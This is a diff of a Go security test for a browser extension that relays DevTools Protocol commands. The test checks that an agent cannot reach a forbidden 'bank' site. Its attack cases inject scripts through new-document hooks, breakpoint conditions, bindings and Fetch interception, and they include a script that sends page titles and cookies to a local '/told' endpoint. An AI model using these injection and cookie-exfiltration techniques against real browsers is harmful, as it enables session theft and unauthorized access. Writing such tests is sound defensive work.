@@ -1,143 +1,26 @@
 package extension_test
 
 import (
-	"encoding/json"
 	"flag"
 	"fmt"
 	"maps"
-	"net"
-	"net/http"
-	"net/http/httptest"
+	"net/url"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
-	"time"
 	"unicode"
 )
 
 // every makes TestAttackSites try all attacks; else it tries a share of those that are alike.
 var every = flag.Bool("attack", false, "try every attack")
 
-// bank marks everything on a site that no agent may use.
-const bank = "of-the-bank"
-
-// bankOf serves that site, one that agents may use, and a path to which scripts
-// report where they run.
-func bankOf(t *testing.T) (theirs, own string, told chan string) {
-	t.Helper()
-	told = make(chan string, 100)
-	mux := http.NewServeMux()
-	page := func(w http.ResponseWriter, body string) {
-		w.Header().Set("Content-Type", "text/html")
-		fmt.Fprint(w, "<!doctype html>"+body)
-	}
-	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { page(w, "<title>mine</title><p id=p>mine") })
-	mux.HandleFunc("/told", func(_ http.ResponseWriter, r *http.Request) { told <- r.URL.RawQuery })
-	mux.HandleFunc("/to", func(w http.ResponseWriter, r *http.Request) {
-		http.Redirect(w, r, r.URL.Query().Get("url"), http.StatusFound)
-	})
-	mux.HandleFunc("/meta", func(w http.ResponseWriter, r *http.Request) {
-		page(w, `<meta http-equiv=refresh content="0;url=`+r.URL.Query().Get("url")+`">`)
-	})
-	cookie := func(w http.ResponseWriter) {
-		w.Header().Add("Set-Cookie", "fresh=cookie-"+bank+"; HttpOnly; Path=/")
-		w.Header().Add("Set-Cookie", "third=cookie-"+bank+"; HttpOnly; Path=/; SameSite=None; Secure")
-		w.Header().Set("X-Token", "header-"+bank)
-	}
-	mux.HandleFunc("/bank/", func(w http.ResponseWriter, r *http.Request) {
-		cookie(w)
-		page(w, "<title>title-"+bank+"</title><script>console.log('console-"+bank+"')</script><p>text-"+bank+"<script>fetch('/bank/image?"+bank+"')</script>")
-	})
-	mux.HandleFunc("/bank/redirects", func(w http.ResponseWriter, r *http.Request) {
-		cookie(w)
-		http.Redirect(w, r, "/bank/?token-"+bank, http.StatusFound)
-	})
-	mux.HandleFunc("/bank/image", func(w http.ResponseWriter, _ *http.Request) {
-		cookie(w)
-		w.Header().Del("X-Token") // what a page fetches is the page's
-		w.Header().Set("Content-Type", "image/png")
-	})
-	mux.HandleFunc("/bank/empty", func(w http.ResponseWriter, _ *http.Request) {
-		page(w, "<script>onload = () => setTimeout(() => location = 'about:blank')</script>")
-	})
-	mux.HandleFunc("/bank/blob", func(w http.ResponseWriter, _ *http.Request) {
-		page(w, "<script>location = URL.createObjectURL(new Blob(['<p>text-"+bank+"'], { type: 'text/html' }))</script>")
-	})
-	mux.HandleFunc("/bank/file", func(w http.ResponseWriter, _ *http.Request) {
-		w.Header().Set("Content-Disposition", `attachment; filename="file-`+bank+`.txt"`)
-		fmt.Fprint(w, "download-"+bank)
-	})
-	server := httptest.NewServer(mux)
-	t.Cleanup(server.Close)
-	_, port, err := net.SplitHostPort(server.Listener.Addr().String())
-	if err != nil {
-		t.Fatal(err)
-	}
-	return "http://bank.localhost:" + port + "/bank/", "http://one.localhost:" + port + "/", told
-}
-
-// thief is an agent that has a tab on a site that it may use, and any relay it likes.
-type thief struct {
-	*fakeRelay
-	theirs, own string
-	tab         string
-}
-
-// try sends a command to its tab; what is answered counts as told.
-func (x *thief) try(method string, with args) error {
-	x.t.Helper()
-	raw, err := x.ask("forwardCDPCommand", args{"id": x.tab, "method": method, "params": with})
-	x.record(event{Method: "answer", Params: params{Method: method, Params: raw}})
-	return err
-}
-
-func (x *thief) script(source string) {
-	x.t.Helper()
-	x.try("Runtime.evaluate", args{"expression": source, "awaitPromise": true, "returnByValue": true, "userGesture": true})
-}
-
-// home leads its tab back to where it may be.
-func (x *thief) home() {
-	x.t.Helper()
-	for late := time.After(patience); ; {
-		x.do("leaveTab", args{"id": x.tab}, nil)
-		_, err := x.ask("attachTab", args{"id": x.tab})
-		if err == nil {
-			err = x.try("Page.enable", nil)
-		}
-		if err == nil {
-			break
-		}
-		select {
-		case <-late:
-			x.t.Fatal(err)
-		default: // it was on its way elsewhere
-		}
-	}
-	mark := x.mark()
-	x.cdp(x.tab, "Page.navigate", args{"url": x.own})
-	x.cdpEvent(mark, x.tab, "Page.loadEventFired")
-	for _, domain := range []string{"Network", "Page", "Runtime", "Log", "Debugger", "CSS", "DOM", "Fetch", "Audits"} {
-		x.try(domain+".disable", nil)
-	}
-}
-
-// told returns what of the bank it was told since a mark.
-func (x *thief) told(mark int) string {
-	for _, e := range x.since(mark) {
-		said, _ := json.Marshal(e)
-		if at := strings.Index(string(said), bank); at >= 0 {
-			return fmt.Sprintf("%s %s …%s", e.Method, e.Params.Method, said[max(0, at-80):at+len(bank)])
-		}
-	}
-	return ""
-}
-
 // TestAttackSites attacks the extension itself, for what nobody allowed, with a relay
 // that asks and hears whatever it likes. No attack gets in.
 func TestAttackSites(t *testing.T) {
 	r := newFakeRelay(t)
-	theirs, own, told := bankOf(t)
+	s := newSites(t)
+	theirs, own := s.theirs, s.own
 	c := launch(t, r, "asks")
 	r.await(0, "hello", nil)
 	person := c.panel()
@@ -159,14 +42,14 @@ func TestAttackSites(t *testing.T) {
 			t.Errorf("the person reads the name %q", shown)
 		}
 	}
-	x := &thief{r, theirs, own, string(r.create(own).ID)}
+	x := &thief{r, s, string(r.create(own).ID)}
 	tried := 0
 	attack := func(name string, try func(mark int)) {
 		t.Helper()
 		tried++
 		mark := r.mark()
 		try(mark)
-		if got := x.told(mark); got != "" {
+		if got := x.heard(mark); got != "" {
 			t.Errorf("%s: %s", name, got)
 		}
 		x.home()
@@ -176,6 +59,10 @@ func TestAttackSites(t *testing.T) {
 		r.await(mark, "tabDetached", func(p params) bool { return string(p.ID) == x.tab })
 	}
 
+	tell := func(who string) string {
+		return "(() => { const tell = () => location.pathname.startsWith('/bank') && (new Image().src = '" + own + "told?" + url.QueryEscape(who) + "'); tell(); addEventListener('DOMContentLoaded', tell) })()"
+	}
+	var after func()
 	// The tab comes to the bank while the client listens.
 	listens := map[string]func(){
 		"nothing":          func() {},
@@ -197,7 +84,57 @@ func TestAttackSites(t *testing.T) {
 			x.try("Target.setAutoAttach", args{"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true, "filter": []any{args{}}})
 		},
 		"script in new documents": func() {
-			x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": "const tell = () => new Image().src = '" + own + "told?' + document.title + document.cookie; addEventListener('DOMContentLoaded', tell)"})
+			x.try("Page.enable", nil) // without it none runs
+			x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": tell("a script")})
+		},
+		"script in new documents' own world": func() {
+			x.try("Page.enable", nil)
+			x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": tell("a world"), "worldName": "ours"})
+		},
+		"script on load": func() {
+			x.try("Page.enable", nil)
+			x.try("Page.addScriptToEvaluateOnLoad", args{"scriptSource": tell("a script on load")})
+		},
+		"script that calls a binding": func() {
+			x.try("Page.enable", nil)
+			x.try("Runtime.enable", nil)
+			x.try("Runtime.addBinding", args{"name": "tell"})
+			x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": "if (location.pathname.startsWith('/bank')) tell('" + bank + "')"})
+		},
+		"a condition of a breakpoint": func() {
+			x.try("Debugger.enable", nil)
+			x.try("Debugger.setBreakpointByUrl", args{"urlRegex": ".*", "lineNumber": 0, "condition": tell("a condition") + ", false"})
+		},
+		"commands that go on": func() {
+			after = x.meanwhile(func() {
+				r.ask("forwardCDPCommand", args{"id": x.tab, "method": "Runtime.evaluate", "params": args{"expression": tell("a command")}})
+			})
+		},
+		"Fetch that lets all go": func() {
+			x.try("Fetch.enable", args{"patterns": []any{args{"resourceType": "Document"}}})
+			x.try("Page.enable", nil)
+			x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": tell("a script")})
+			at := r.mark()
+			after = x.meanwhile(func() {
+				for _, e := range r.since(at) {
+					at++
+					if e.Params.Method == "Fetch.requestPaused" {
+						var paused struct{ RequestID string }
+						decode(t, e.Params.Params, &paused)
+						r.ask("forwardCDPCommand", args{"id": x.tab, "method": "Fetch.continueRequest", "params": args{"requestId": paused.RequestID, "interceptResponse": false}})
+					}
+				}
+				r.ask("listTabs", nil)
+			})
+		},
+		"Fetch that is off": func() {
+			x.try("Page.enable", nil)
+			x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": tell("a script")})
+			x.try("Fetch.enable", args{"patterns": []any{args{"resourceType": "Document"}}})
+			x.try("Fetch.enable", args{"patterns": []any{}})
+			x.try("Fetch.enable", args{"patterns": nil, "handleAuthRequests": nil})
+			x.try("Fetch.enable", args{"patterns": args{}})
+			x.try("Fetch.disable", nil)
 		},
 	}
 	ways := map[string]string{
@@ -213,9 +150,15 @@ func TestAttackSites(t *testing.T) {
 				continue
 			}
 			attack(way+" with "+listening, func(mark int) {
+				after = func() {}
+				for len(s.shown) > 0 {
+					<-s.shown
+				}
 				listens[listening]()
 				x.script(strings.ReplaceAll(ways[way], "URL", "'"+theirs+"'"))
 				withheld(mark)
+				s.await(t, s.shown)
+				after()
 			})
 		}
 	}
@@ -261,6 +204,61 @@ func TestAttackSites(t *testing.T) {
 			x.home()
 			x.try("Page.getNavigationHistory", nil)
 		},
+		"an attachment on the way": func(int) {
+			x.script("void (location = '/slow?url=" + theirs + "')")
+			s.await(t, s.slow)
+			x.do("detachTab", args{"id": x.tab}, nil)
+			var on sync.WaitGroup
+			on.Go(func() {
+				x.ask("attachTab", args{"id": x.tab})
+				x.try("Page.enable", nil)
+				x.try("Page.addScriptToEvaluateOnNewDocument", args{"source": tell("a script of one on the way")})
+			})
+			c.eval(person.session, "(async () => { while (!(await chrome.debugger.getTargets()).some(t => t.attached && t.id === '"+x.tab+"')); })()", nil)
+			s.await(t, s.slow)
+			s.await(t, s.shown)
+			on.Wait()
+		},
+		"a new tab on the way": func(mark int) {
+			var on sync.WaitGroup
+			on.Go(func() {
+				raw, err := x.ask("createTab", args{"url": own + "slow?url=" + theirs})
+				refused(t, err, -32000, siteOf(t, theirs))
+				r.record(event{Method: "answer", Params: params{Params: raw}})
+			})
+			made := string(r.await(mark, "tabOpened", nil).Params.ID)
+			s.await(t, s.slow)
+			on.Go(func() {
+				for _, method := range []string{"Page.enable", "Page.addScriptToEvaluateOnNewDocument"} {
+					x.ask("forwardCDPCommand", args{"id": made, "method": method, "params": args{"source": tell("a script of a new tab")}})
+				}
+			})
+			x.ask("listTabs", nil)
+			s.await(t, s.slow)
+			s.await(t, s.shown)
+			on.Wait()
+			x.do("closeTab", args{"id": made}, nil)
+		},
+		"an entry of the history": func(mark int) {
+			session := c.attach(x.tab)
+			c.cdp(session, "Page.navigate", args{"url": theirs})
+			withheld(mark)
+			s.await(t, s.shown)
+			x.home()
+			var history struct {
+				Entries []struct {
+					ID  int
+					URL string
+				}
+			}
+			decode(t, r.cdp(x.tab, "Page.getNavigationHistory", nil), &history)
+			for _, entry := range history.Entries {
+				if siteOf(t, entry.URL) == siteOf(t, theirs) {
+					_, err := r.ask("forwardCDPCommand", args{"id": x.tab, "method": "Page.navigateToHistoryEntry", "params": args{"entryId": entry.ID}})
+					refused(t, err, -32062, siteOf(t, theirs))
+				}
+			}
+		},
 		"another tab, by its id": func(int) {
 			c.page(theirs + "?" + bank)
 			for _, id := range c.targets(func(t target) bool { return strings.HasPrefix(t.URL, theirs) }) {
@@ -301,6 +299,7 @@ func TestAttackSites(t *testing.T) {
 	x.try("Page.enable", nil)
 	x.script("void (location = '" + theirs + "file')")
 	person.answer(siteOf(t, theirs), "no")
+	x.home()
 	for name, first := range map[string]string{"a frame of who was refused": theirs, "a frame that goes to who was refused": strings.Replace(own, "one.", "two.", 1)} {
 		attack(name, func(mark int) {
 			x.try("Target.setAutoAttach", args{"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true})
@@ -341,7 +340,7 @@ func TestAttackSites(t *testing.T) {
 	}
 	t.Logf("%d attacks tried", tried)
 	select {
-	case got := <-told:
+	case got := <-s.told:
 		t.Errorf("a script ran at %s", got)
 	default:
 	}
